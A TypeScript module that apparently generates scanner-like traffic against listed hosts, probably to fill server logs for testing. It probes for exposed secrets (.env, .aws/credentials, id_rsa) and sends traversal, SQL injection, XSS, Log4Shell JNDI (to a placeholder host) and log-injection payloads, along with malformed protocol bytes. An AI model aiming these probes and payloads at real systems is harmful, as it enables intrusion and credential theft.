import { Client, pick, sleep } from './client.ts';

const agents = [
  'Mozilla/5.0 zgrab/0.x',
  'masscan/1.3',
  'python-requests/2.18.4',
  '-',
  'Mozlila/5.0 "quoted" \\ backslash',
];
const folders = [
  '',
  'admin',
  'wp-admin',
  'wordpress',
  'backup',
  'old',
  'test',
  'phpmyadmin',
  'cgi-bin',
  'api',
  '.git',
  'vendor',
];
const files = [
  'index.php',
  'login.php',
  'wp-login.php',
  'xmlrpc.php',
  'config.php.bak',
  '.env',
  'dump.sql',
  'backup.zip',
  'server-status',
  'HEAD',
  'shell.php',
  'setup.cgi?next_file=netgear.cfg',
  'id_rsa',
  'phpinfo.php',
  'console/',
  'actuator/env',
  'web.config',
  '.aws/credentials',
  'install.php',
  'test.cgi',
];
const attacks = [
  '/docs/../../../../etc/passwd',
  '/cgi-bin/.%2e/%2e%2e/%2e%2e/bin/sh',
  '/?id=1%27%20OR%20%271%27=%271',
  '/search?q=<script>alert(1)</script>',
  '/index.php?page=php://filter/convert.base64-encode/resource=config',
  '/%24%7Bjndi:ldap://198.51.100.77/a%7D',
  '/private/notes.txt',
  '/internal/status',
  '/admin/',
];

/** Looks for what is known to be left lying about, then sends what is not HTTP at all. About 600 requests to each server's log. */
export async function scan(from: string, hosts: readonly string[]): Promise<void> {
  for (const host of hosts) {
    const clients = agents.map((agent) => new Client(from, agent));
    for (const folder of folders) {
      for (const file of files) {
        await pick(clients).ask({ host, path: folder === '' ? `/${file}` : `/${folder}/${file}` });
        await sleep(60);
      }
    }
    const client = pick(clients);
    for (const path of attacks) await client.ask({ host, path });
    for (const method of ['OPTIONS', 'TRACE', 'PROPFIND', 'DEBUG']) await client.ask({ host, path: '/', method });
    await sendWrong(client, host);
    for (const each of clients) each.close();
  }
}

async function sendWrong(client: Client, host: string): Promise<void> {
  const lines: (string | Uint8Array)[] = [
    'GET http://198.51.100.77/proxy HTTP/1.1\r\nHost: 198.51.100.77\r\nConnection: close\r\n\r\n',
    'CONNECT 198.51.100.77:443 HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
    'GET / HTTP/0.9\r\n\r\n',
    'GET /\r\n',
    'HELP\r\n\r\n',
    'SSH-2.0-Go\r\n',
    `GET /${'A'.repeat(9000)} HTTP/1.1\r\nHost: x\r\n\r\n`,
    'GET /a b c HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n',
    'GET / HTTP/1.1\r\nConnection: close\r\n\r\n',
    'GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: "; DROP TABLE log; -- \x1b[2J\r\nConnection: close\r\n\r\n',
    Buffer.from([0x03, 0x00, 0x00, 0x13, 0x0e, 0xe0, 0, 0, 0, 0, 0, 0x01, 0, 0x08, 0, 0x03, 0, 0, 0, 0x0d, 0x0a]),
    Buffer.from([0xff, 0xfe, 0x80, 0x22, 0x5c, 0x00, 0x0d, 0x0a, 0x0d, 0x0a]),
  ];
  for (const bytes of lines) await client.send(host, bytes);
  for (let i = 0; i < 5; i++) await client.greetWithTls(host);
}
